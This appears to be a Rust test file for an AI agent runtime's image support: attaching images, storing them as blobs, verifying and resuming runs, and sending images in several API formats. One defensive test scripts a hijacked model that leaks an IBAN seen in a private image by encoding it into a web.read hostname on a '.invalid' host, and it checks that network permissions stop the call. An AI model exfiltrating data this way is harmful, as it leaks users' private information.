//! Images: attached to a task, given back by a tool, kept beside the journal, sent in each protocol. The endpoint
//! is a loopback server that keeps what it was sent.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::{Arc, Mutex};

use agent_core::event::{Event, What};
use axum::response::{IntoResponse, Response};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::place::{Place, Ran, call, say};
use crate::serve::client::{ADA, Serve};
use crate::server::{Asked, Server, reply};

/// The header of a PNG, which is all that is ever looked at.
pub(crate) fn png(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    bytes.extend(width.to_be_bytes());
    bytes.extend(height.to_be_bytes());
    bytes.extend([8, 2, 0, 0, 0]);
    bytes
}

/// An endpoint that says these one after the other, and what it was sent.
pub(crate) struct Endpoint {
    pub(crate) server: Server,
    bodies: Arc<Mutex<Vec<Value>>>,
}

impl Endpoint {
    pub(crate) fn with(answers: Vec<Value>, answer: fn(&Value) -> Response) -> Self {
        let bodies = Arc::<Mutex<Vec<Value>>>::default();
        let seen = bodies.clone();
        let server = Server::start(move |asked: Asked| {
            seen.lock().unwrap().push(serde_json::from_slice(&asked.body).unwrap());
            answer(answers.get(asked.number).unwrap_or_else(|| answers.last().unwrap()))
        });
        Self { server, bodies }
    }

    pub(crate) fn chat(answers: Vec<Value>) -> Self {
        Self::with(answers, reply)
    }

    pub(crate) fn body(&self, at: usize) -> Value {
        self.bodies.lock().unwrap()[at].clone()
    }

    /// An agent that reads in `docs`, whose model is this one.
    fn agent(&self, model: &str) -> String {
        format!(
            "name = \"eyes\"\ntask = \"What is in the picture?\"\n[model]\nprovider = \"openai\"\n\
             name = \"m\"\nbase_url = \"http://{}/v1\"\n{model}\n[tools]\nuse = [\"files.read\"]\n\
             [permissions]\nread = [\"docs\"]\n",
            self.server.at
        )
    }
}

const SEES: &str = "input = [\"text\", \"image\"]";

fn place(endpoint: &Endpoint, model: &str) -> Place {
    let place = Place::new();
    place.write("agent.toml", endpoint.agent(model)).write("docs/chart.png", png(640, 480));
    place
}

pub(crate) fn url(bytes: &[u8]) -> String {
    format!("data:image/png;base64,{}", STANDARD.encode(bytes))
}

/// A place whose server `it` gives a picture back, with this endpoint for a model.
fn gives(endpoint: &Endpoint, model: &str) -> Place {
    let content = json!([
        { "type": "text", "text": "a picture" },
        { "type": "image", "data": STANDARD.encode(png(640, 480)), "mimeType": "image/png" },
    ]);
    let server =
        json!({ "tools": [{ "name": "work" }], "results": { "work": { "content": content } } });
    let place = crate::mcp::says(&server, &[]);
    let scripted = "provider = \"scripted\"\nname = \"replies.jsonl\"";
    let agent = place.read("agent.toml");
    assert!(agent.contains(scripted), "{agent}");
    let remote = format!(
        "provider = \"openai\"\nname = \"m\"\nbase_url = \"http://{}/v1\"\n{model}",
        endpoint.server.at
    );
    place.write("agent.toml", agent.replace(scripted, &remote)).write("docs/chart.png", png(1, 1));
    let pinned = place.errand(["mcp", "pin", "agent.toml", "--yes"]);
    assert_eq!(pinned.code, Some(0), "{pinned}");
    place
}

fn work() -> Value {
    call([("it.work", json!({ "n": 1 }))])
}

/// The blobs of a run.
fn blobs(place: &Place, run: &str) -> Vec<String> {
    let folder = place.home().join("blobs").join(run);
    let Ok(files) = fs::read_dir(folder) else { return Vec::new() };
    files.map(|file| file.unwrap().file_name().to_string_lossy().into_owned()).collect()
}

fn with_image(place: &Place) -> Ran {
    place.errand(["run", "agent.toml", "--json", "--image", "docs/chart.png"])
}

#[test]
fn an_image_that_is_attached_to_a_task_is_sent_and_only_its_digest_is_in_the_journal() {
    let endpoint = Endpoint::chat(vec![say("a chart")]);
    let place = place(&endpoint, SEES);
    let ran = with_image(&place);
    assert_eq!(ran.code, Some(0), "{ran}");
    assert_eq!(
        endpoint.body(0)["messages"][1]["content"],
        json!([
            { "type": "text", "text": "What is in the picture?\n[image/png, 29 bytes: docs/chart.png]" },
            { "type": "image_url", "image_url": { "url": url(&png(640, 480)) } },
        ])
    );
    let events = place.events(&ran.run());
    let What::Started { parts, taint, .. } = &events[0].what else { panic!() };
    assert_eq!((parts.len(), events[0].version, events[1].version), (1, 2, 1));
    assert!(taint.iter().any(|origin| origin.to_string().ends_with("docs/chart.png")), "{taint:?}");
    let text = serde_json::to_string(&events).unwrap();
    assert!(!text.contains(&STANDARD.encode(png(640, 480))) && text.contains(&parts[0].sha256));
    assert_eq!(blobs(&place, &ran.run()), [parts[0].sha256.clone()]);
    let blob = place.home().join("blobs").join(ran.run());
    let mode = |path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(blob.clone()), mode(blob.join(&parts[0].sha256))), (0o700, 0o600));
    let shown = place.errand(["runs", "show", &ran.run()]);
    let line = format!("[image/png, 29 bytes: docs/chart.png] sha256 {}", parts[0].sha256);
    assert!(shown.out.contains(&line), "{shown}");
}

#[test]
fn an_image_for_a_model_that_reads_text_is_refused_before_anything_runs() {
    let endpoint = Endpoint::chat(vec![say("never")]);
    let here = place(&endpoint, "");
    let ran = with_image(&here);
    assert_eq!(ran.code, Some(2), "{ran}");
    insta::assert_snapshot!(ran.err.trim(), @r#"
    error: `docs/chart.png` cannot be shown to the model `m`, which takes text only
    hint: if it is shown images, write `input = ["text", "image"]` under `[model]`
    "#);
    assert!(endpoint.server.asked().is_empty());
    here.agent("", "", &[say("never")]);
    let ran = with_image(&here);
    assert_eq!(ran.code, Some(2), "{ran}");
    assert!(ran.err.contains("local models read text only for now"), "{ran}");
}

#[test]
fn a_file_that_says_png_and_is_not() {
    let endpoint = Endpoint::chat(vec![say("never")]);
    let place = place(&endpoint, SEES);
    place.write("docs/chart.png", "<svg xmlns='http://www.w3.org/2000/svg'/>");
    let ran = with_image(&place);
    assert_eq!(ran.code, Some(2), "{ran}");
    insta::assert_snapshot!(ran.err.trim(), @r"
    error: `--image docs/chart.png`: it is no PNG, JPEG, GIF or WebP image
    hint: models take PNG, JPEG, GIF and WebP images of at most 5 MiB
    ");
    let mut large = png(1, 1);
    large.resize((5 << 20) + 1, 0);
    let ran = {
        place.write("docs/chart.png", large);
        with_image(&place)
    };
    assert_eq!(ran.code, Some(2), "{ran}");
    assert!(ran.err.contains("larger than 5120 KiB"), "{ran}");
    fs::remove_file(place.path("docs/chart.png")).unwrap();
    assert_eq!(with_image(&place).code, Some(2));
}

#[test]
fn an_endpoint_that_refuses_images_says_what_to_change() {
    let refuses = |_: &Value| {
        let said = json!({ "error": { "message": "image input is not supported by this model" } });
        (axum::http::StatusCode::BAD_REQUEST, axum::Json(said)).into_response()
    };
    let endpoint = Endpoint::with(vec![Value::Null], refuses);
    let place = place(&endpoint, SEES);
    let ran = with_image(&place);
    assert_eq!(ran.code, Some(1), "{ran}");
    assert_eq!(endpoint.server.asked().len(), 1, "nothing is learned from it");
    insta::assert_snapshot!(ran.finished()["detail"].as_str().unwrap(), @r#"
    model `m` did not answer: the server answered 400 Bad Request: image input is not supported by this model
    hint: the request holds images, which the endpoint may not take: write `input = ["text"]` under `[model]` and begin again without them, or name a model that is shown images
    "#);
}

#[test]
fn an_image_goes_with_its_run_and_is_removed_with_it() {
    let endpoint = Endpoint::chat(vec![say("a chart")]);
    let place = place(&endpoint, SEES);
    let run = with_image(&place).run();
    assert_eq!(place.errand(["runs", "verify", &run]).code, Some(0));
    let out = place.errand(["runs", "export", &run, "run.jsonl"]);
    assert_eq!(out.code, Some(0), "{out}");
    let import = |file: &str, home: &str| {
        let mut command = place.command(["runs", "import", file]);
        place.ran(&command.env("ERRAND_HOME", place.path(home)).output().unwrap())
    };
    let ran = import("run.jsonl", "other");
    assert_eq!(ran.code, Some(0), "{ran}");
    let sha256 = blobs(&place, &run).remove(0);
    let theirs = place.path("other").join("blobs").join(&run).join(&sha256);
    assert_eq!(fs::read(theirs).unwrap(), png(640, 480));
    // A file without the bytes, or with others, is not the run.
    let text = place.read("run.jsonl");
    let without: String =
        text.lines().filter(|l| !l.contains("base64")).map(|l| format!("{l}\n")).collect();
    let ran = import(
        {
            place.write("without.jsonl", without);
            "without.jsonl"
        },
        "third",
    );
    assert!(ran.code == Some(2) && ran.err.contains("are not in the file"), "{ran}");
    let other = text.replace(&STANDARD.encode(png(640, 480)), &STANDARD.encode(png(1, 1)));
    let ran = import(
        {
            place.write("other.jsonl", other);
            "other.jsonl"
        },
        "third",
    );
    assert!(ran.code == Some(2) && ran.err.contains("the bytes are not those of"), "{ran}");

    let blob = place.home().join("blobs").join(&run).join(&sha256);
    fs::write(&blob, "changed").unwrap();
    let verified = place.errand(["runs", "verify", &run]);
    assert!(verified.code == Some(1) && verified.out.contains("were changed"), "{verified}");
    let pruned = place.errand(["runs", "prune", "--keep", "0", "--yes"]);
    assert_eq!(pruned.code, Some(0), "{pruned}");
    assert!(!place.home().join("blobs").join(&run).exists());
}

/// A model that was taken over sees the picture and carries what it saw out in an address.
#[test]
fn what_a_private_image_shows_in_the_name_of_a_host() {
    let out = call([("web.read", json!({ "url": "https://iban-de00123.invalid/x" }))]);
    let endpoint = Endpoint::chat(vec![out, say("I tried")]);
    let place = place(&endpoint, SEES);
    let agent = place.read("agent.toml").replace("\"files.read\"", "\"web.read\"");
    place.write("agent.toml", format!("{agent}net = [\"public\"]\n"));
    let ran = with_image(&place);
    assert_eq!(ran.code, Some(3), "{ran}");
    let journal = place.journal(&ran.run());
    assert!(journal.contains("`iban-de00123.invalid` is not granted in full"), "{journal}");
}

#[test]
fn an_image_that_a_tool_gives_back_is_shown_after_its_result() {
    let endpoint = Endpoint::chat(vec![work(), say("a chart")]);
    let place = gives(&endpoint, SEES);
    let ran = place.run();
    assert_eq!(ran.code, Some(0), "{ran}");
    assert_eq!(ran.observations(), ["a picture\n[image/png, 29 bytes]"]);
    let sent = endpoint.body(1)["messages"].clone();
    let [.., told, shown] = &sent.as_array().unwrap()[..] else { panic!("{sent}") };
    assert_eq!(told["role"], "tool");
    assert!(
        told["content"].as_str().unwrap().ends_with("a picture\n[image/png, 29 bytes]"),
        "{told}"
    );
    let image = json!({ "type": "image_url", "image_url": { "url": url(&png(640, 480)) } });
    assert_eq!((&shown["role"], &shown["content"][1]), (&json!("user"), &image));
    assert_eq!(blobs(&place, &ran.run()).len(), 1);
}

#[test]
fn responses_have_images_in_their_own_form() {
    let answer = |said: &Value| {
        let item = match said["tool_calls"].as_array() {
            Some(calls) => json!({ "type": "function_call", "call_id": "c", "name": "it_work",
                "arguments": calls[0]["arguments"].to_string() }),
            None => {
                let text = json!({ "type": "output_text", "text": said["content"] });
                json!({ "type": "message", "content": [text] })
            }
        };
        let whole = json!({ "object": "response", "status": "completed", "output": [item] });
        axum::Json(whole).into_response()
    };
    let endpoint = Endpoint::with(vec![work(), say("a chart")], answer);
    let ran = with_image(&gives(&endpoint, &format!("protocol = \"responses\"\n{SEES}")));
    assert_eq!(ran.code, Some(0), "{ran}");
    let image =
        |bytes: &[u8]| json!({ "type": "input_image", "detail": "auto", "image_url": url(bytes) });
    let input = endpoint.body(1)["input"].clone();
    assert_eq!(input[1]["content"][1], image(&png(1, 1)));
    let given = input.as_array().unwrap().last().unwrap().clone();
    assert_eq!(given["type"], "function_call_output");
    assert_eq!(given["output"][1], image(&png(640, 480)));
}

#[test]
fn messages_have_images_in_their_own_form() {
    let answer = |said: &Value| {
        let block = match said["tool_calls"].as_array() {
            Some(calls) => json!({ "type": "tool_use", "id": "c", "name": "it_work",
                "input": calls[0]["arguments"] }),
            None => json!({ "type": "text", "text": said["content"] }),
        };
        let whole = json!({ "type": "message", "content": [block], "stop_reason": "end_turn" });
        axum::Json(whole).into_response()
    };
    let endpoint = Endpoint::with(vec![work(), say("a chart")], answer);
    let ran = with_image(&gives(&endpoint, &format!("protocol = \"messages\"\n{SEES}")));
    assert_eq!(ran.code, Some(0), "{ran}");
    let image = |bytes: &[u8]| {
        let data = STANDARD.encode(bytes);
        json!({ "type": "image",
            "source": { "type": "base64", "media_type": "image/png", "data": data } })
    };
    let sent = endpoint.body(1)["messages"].clone();
    assert_eq!(sent[0]["content"][1], image(&png(1, 1)));
    let given = sent.as_array().unwrap().last().unwrap()["content"][0].clone();
    assert_eq!(given["type"], "tool_result");
    assert_eq!(given["content"][1], image(&png(640, 480)));
}

#[test]
fn a_model_that_reads_text_is_told_in_a_line_and_the_run_says_so_once() {
    let endpoint = Endpoint::chat(vec![work(), work(), say("I cannot see it")]);
    let ran = gives(&endpoint, "").run();
    assert_eq!(ran.code, Some(0), "{ran}");
    let told = endpoint.body(1)["messages"].as_array().unwrap().last().unwrap().clone();
    let line = "a picture\n[image/png, not shown: the model takes text only]";
    assert_eq!(told["role"], "tool");
    assert!(told["content"].as_str().unwrap().ends_with(line), "{told}");
    let notes: Vec<_> = ran.lines().into_iter().filter(|line| line["type"] == "note").collect();
    assert_eq!(notes.len(), 1, "{ran}");
    assert_eq!(notes[0]["text"], "model `m` takes text only: it is not shown images and files");
}

#[test]
fn a_run_that_is_resumed_still_has_its_image() {
    let endpoint = Endpoint::chat(vec![say("a chart")]);
    let place = place(&endpoint, SEES);
    let run = with_image(&place).run();
    let events = place.events(&run);
    // What a process leaves that is killed while it waits for the reply.
    let asked = |event: &Event| matches!(event.what, What::Thinking { .. });
    let cut = events.iter().position(asked).unwrap() + 1;
    let home = place.cut("cut", &run, &events[..cut]);
    let kept = home.join("blobs").join(&run);
    fs::create_dir_all(&kept).unwrap();
    for blob in blobs(&place, &run) {
        fs::copy(place.home().join("blobs").join(&run).join(&blob), kept.join(&blob)).unwrap();
    }
    fs::remove_file(place.path("docs/chart.png")).unwrap();
    let resume = |home: &Path| {
        let mut command = place.command(["runs", "resume", &run, "--json"]);
        place.ran(&command.env("ERRAND_HOME", home).output().unwrap())
    };
    let resumed = resume(&home);
    assert_eq!(resumed.code, Some(0), "{resumed}");
    let sent = endpoint.body(1)["messages"][1]["content"][1]["image_url"]["url"].clone();
    assert_eq!(sent, url(&png(640, 480)));
    // Bytes that are gone are not made up.
    let ran = resume(&place.cut("gone", &run, &events[..cut]));
    assert_eq!(ran.code, Some(1), "{ran}");
    assert!(ran.finished()["detail"].as_str().unwrap().contains("are not there"), "{ran}");
}

#[test]
fn an_image_that_comes_with_a_request_begins_a_run_of_a_model_that_takes_it_and_no_other() {
    let endpoint = Endpoint::chat(vec![say("a chart")]);
    let place = place(&endpoint, SEES);
    place.write("blind.toml", endpoint.agent("").replace("\"eyes\"", "\"blind\""));
    crate::serve::client::file(&place, &["eyes"], "");
    let serve = place.read("serve.toml");
    place.write("serve.toml", format!("[agents.blind]\nfile = \"blind.toml\"\n{serve}"));
    let serve = Serve::start(&place);
    let body = |agent: &str, images: Value| json!({ "agent": agent, "images": images });
    let start = |agent: &str, images: Value| serve.post("/v1/runs", ADA, &body(agent, images));
    start("blind", json!([url(&png(1, 1))])).says(400, "invalid_params");
    for wrong in [json!(["http://127.0.0.1:9/a.png"]), json!(["data:image/png;base64,QUJD"])] {
        start("eyes", wrong).says(400, "invalid_request");
    }
    assert_eq!(serve.get("/v1/runs", ADA).json()["data"], json!([]));

    let begun = start("eyes", json!([url(&png(640, 480))])).json();
    let run = begun["id"].as_str().unwrap();
    assert_eq!(serve.rests(run, ADA)["outcome"], json!({ "answer": "a chart" }));
    assert_eq!(begun["images"][0]["media_type"], "image/png", "{begun}");
    assert_eq!(blobs(&place, run), [begun["images"][0]["sha256"].as_str().unwrap()]);
    let sent = &endpoint.body(0)["messages"][1]["content"][1]["image_url"]["url"];
    assert_eq!(*sent, json!(url(&png(640, 480))));

    let file = json!({ "kind": "file", "file": { "bytes": STANDARD.encode(png(2, 2)) } });
    let message = json!({ "messageId": "m1", "parts": [file] });
    let params = json!({ "message": message });
    let asked = json!({ "jsonrpc": "2.0", "id": 1, "method": "message/send", "params": params });
    let task = serve.post("/a2a/eyes", ADA, &asked).json();
    assert_eq!(task["result"]["status"]["state"], "completed", "{task}");
    let sent = &endpoint.body(1)["messages"][1]["content"][1]["image_url"]["url"];
    assert_eq!(*sent, json!(url(&png(2, 2))));
}
